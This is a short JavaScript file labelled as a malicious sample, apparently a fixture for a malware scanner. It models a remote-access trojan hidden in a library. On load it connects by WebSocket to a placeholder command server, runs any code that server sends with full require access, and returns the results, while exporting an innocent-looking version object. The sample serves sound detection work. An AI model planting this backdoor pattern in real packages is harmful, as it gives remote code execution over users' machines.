// expect: malicious
// source: the behaviour of socket-based RATs hidden in libraries (messages from a C2 run as code); written here
const WS = typeof WebSocket === 'function' ? WebSocket : require('ws');

function connect() {
  const sock = new WS('wss://relay.invalid/agent');
  sock.onmessage = function (event) {
    const job = JSON.parse(String(event.data));
    if (job.kind === 'task') {
      const result = Function('require', job.body)(require);
      sock.send(JSON.stringify({ id: job.id, result: String(result) }));
    }
  };
}

setTimeout(connect, 2000);
module.exports = { version: '1.0.0' };
